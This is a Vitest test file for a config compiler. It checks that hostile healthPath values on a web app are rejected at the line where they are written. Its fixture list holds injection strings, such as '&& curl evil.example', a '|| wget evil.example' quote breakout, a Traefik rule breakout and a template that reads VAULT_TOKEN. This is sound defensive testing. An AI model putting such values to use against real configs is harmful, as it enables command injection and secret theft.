import { describe, expect, it } from 'vitest';
import { compile } from '../../src/core/compile.js';
import { provenance, webApp, withApps } from '../check/fixture-support.js';

// A health path reaches a Traefik health check, a shell command in the compose healthcheck and
// the runbook. None of them may receive a value that breaks out of its quoting, so the config
// must refuse such a path, at the line where it is written.

const hostile: readonly (readonly [name: string, path: string])[] = [
  ['backtick', '/health`) || Host(`evil.example'],
  ['space', '/health check'],
  ['template action', '/{{ env "VAULT_TOKEN" }}'],
  ['newline', '/health\n      priority: 999'],
  ['shell &&', '/health && curl evil.example'],
  ['single quote', "/health' || wget evil.example '"],
  ['double quote', '/health" || true "'],
  ['no leading slash', 'health'],
  ['300 characters with a quote', `/${'a'.repeat(298)}'`],
];

function compileWithHealthPath(path: string) {
  const written = `    healthPath: ${JSON.stringify(path)}`;
  const text = withApps(webApp('docs', written));
  const lines = text.split('\n');
  const line = lines.indexOf(written) + 1;
  expect(line, 'the healthPath line is in the fixture').toBeGreaterThan(0);
  expect(lines.filter((l) => l.trimStart().startsWith('healthPath:')), 'one healthPath in the fixture').toHaveLength(1);
  return { result: compile({ file: 'perfect.config.yaml', content: text, env: {}, provenance }), line };
}

describe('a hostile healthPath on a web app is refused at its line', () => {
  it.each(hostile)('%s', (_name, path) => {
    const { result, line } = compileWithHealthPath(path);
    expect(result.ok).toBe(false);
    const errors = result.diagnostics.filter((d) => d.severity === 'error');
    expect(errors.map((d) => d.code)).toContain('SCHEMA_PATTERN');
    expect(new Set(errors.map((d) => d.range?.start.line))).toEqual(new Set([line]));
    expect(errors[0]?.file).toBe('perfect.config.yaml');
    expect(errors[0]?.range?.start.line).toBe(line);
    expect(errors[0]?.message, 'no raw control character reaches the terminal').not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });

  it('a 300-character path of allowed characters', () => {
    const path = `/${'a'.repeat(299)}`;
    const { result, line } = compileWithHealthPath(path);
    expect(result.ok).toBe(false);
    expect(result.diagnostics.filter((d) => d.severity === 'error').map((d) => d.range?.start.line)).toEqual([line]);
  });

  it('accepts an ordinary path in the same place, so the fixture itself is sound', () => {
    const { result } = compileWithHealthPath('/_health');
    expect(result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(result.ok).toBe(true);
  });
});
